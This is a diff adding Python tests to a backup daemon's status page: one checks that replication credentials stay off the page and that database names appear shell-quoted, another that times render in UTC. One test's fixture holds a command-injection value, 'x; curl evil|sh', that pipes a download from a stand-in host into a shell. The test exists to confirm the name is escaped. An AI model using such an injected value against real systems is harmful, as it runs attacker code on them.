@@ -60,3 +60,25 @@ def test_a_repository_that_cannot_be_read_is_a_red_headline_not_an_error(tmp_pat
     assert "✖ Backups need attention" in page and "the backup repository cannot be read" in page
     status = daemon.status()  # /status answers too (it was a 500), saying why in "health"
     assert status["databases"] == {} and any("cannot be read" in r for r in status["health"]["reasons"])
+
+
+def test_target_credentials_never_reach_the_page_and_names_in_commands_are_quoted(tmp_path):
+    from backupd.daemon import Daemon
+    from backupd.settings import load_settings
+
+    settings = load_settings({"BACKUP_DIR": str(tmp_path), "DB_PORT": "1",
+                              "REPLICATION_TARGETS": "s3://AKIAEXAMPLE:topsecret@bucket/prefix"})
+    page = render(Daemon(settings).page_view())
+    assert "topsecret" not in page
+    database = {"name": "x; curl evil|sh", "anchor": "01", "count": 0, "targets": [], "history": [],
+                "failure": {"time": NOW, "error": "boom"}}
+    page = render(view(databases=[database]))
+    assert "backupd list --database &#x27;x; curl evil|sh&#x27;" in page
+
+
+def test_times_are_shown_in_utc_whatever_the_schedule_timezone():
+    from zoneinfo import ZoneInfo
+
+    berlin = datetime(2026, 11, 24, 2, 0, tzinfo=ZoneInfo("Europe/Berlin"))
+    page = render(view(jobs={"backup": {"schedule": "0 2 * * *", "next_run": berlin}}))
+    assert "2026-11-24 01:00 UTC" in page
